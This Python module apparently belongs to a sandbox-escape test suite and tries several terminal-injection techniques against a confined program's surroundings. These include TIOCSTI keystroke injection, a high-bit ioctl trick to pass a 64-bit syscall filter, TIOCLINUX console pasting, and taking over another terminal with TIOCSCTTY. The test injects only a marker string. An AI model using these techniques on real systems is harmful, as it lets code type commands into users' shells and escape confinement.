"""The terminal that the user types in, and others."""

from __future__ import annotations

import ctypes
import fcntl
import os
import termios

from .attempt import Out, World, escape, syscall

TIOCLINUX = 0x541C
IOCTL = 16


def _terminal() -> int:
    return os.open("/dev/tty", os.O_RDWR)


@escape
def type_into_terminal(world: World) -> None:
    """A line typed into the user's terminal (TIOCSTI), which the shell reads when the wall has ended."""
    terminal = _terminal()
    for each in world.mark + "\n":
        fcntl.ioctl(terminal, termios.TIOCSTI, each.encode())


@escape
def type_past_filter(world: World) -> None:
    """The same with bits that the kernel ignores and a filter of 64 bits compares."""
    terminal = _terminal()
    for each in world.mark + "\n":
        syscall(IOCTL, terminal, (1 << 32) | termios.TIOCSTI, each.encode())


@escape
def type_into_standard_input(world: World) -> None:
    """The same through the standard input."""
    for each in world.mark + "\n":
        fcntl.ioctl(0, termios.TIOCSTI, each.encode())


def _console_call(request: int) -> Out:
    """Ask the console for its number, which changes nothing; the same call can paste."""
    argument = ctypes.create_string_buffer(b"\x0c")
    try:
        syscall(IOCTL, os.open("/dev/tty0", os.O_RDWR | os.O_NOCTTY), request, argument)
    except FileNotFoundError as error:
        raise PermissionError(str(error)) from error
    return Out("the console answers")


@escape
def paste_into_console(world: World) -> Out:
    """A line pasted into the console (TIOCLINUX)."""
    return _console_call(TIOCLINUX)


@escape
def paste_into_terminal(world: World) -> Out:
    """TIOCLINUX on the terminal of the wall: refused by a filter, not by the kind of terminal."""
    argument = ctypes.create_string_buffer(b"\x0c")
    try:
        syscall(IOCTL, _terminal(), TIOCLINUX, argument)
    except OSError as error:
        if error.errno in (25, 22):
            return Out(f"no filter refuses it: {error}")
        raise
    return Out("the console answers")


@escape
def write_other_terminal(world: World) -> None:
    """Another terminal of the user: text on its screen."""
    terminal = os.open(world.facts["victim"]["terminal"], os.O_WRONLY | os.O_NOCTTY)
    os.write(terminal, world.mark.encode())


@escape
def type_into_other_terminal(world: World) -> None:
    """Another terminal of the user: a line typed into it."""
    terminal = os.open(world.facts["victim"]["terminal"], os.O_RDWR | os.O_NOCTTY)
    for each in world.mark:
        fcntl.ioctl(terminal, termios.TIOCSTI, each.encode())


@escape
def steal_other_terminal(world: World) -> None:
    """Another terminal of the user, made that of the program (TIOCSCTTY), and typed into."""
    os.setsid()
    terminal = os.open(world.facts["victim"]["terminal"], os.O_RDWR | os.O_NOCTTY)
    fcntl.ioctl(terminal, termios.TIOCSCTTY, 1)
    for each in world.mark:
        fcntl.ioctl(terminal, termios.TIOCSTI, each.encode())
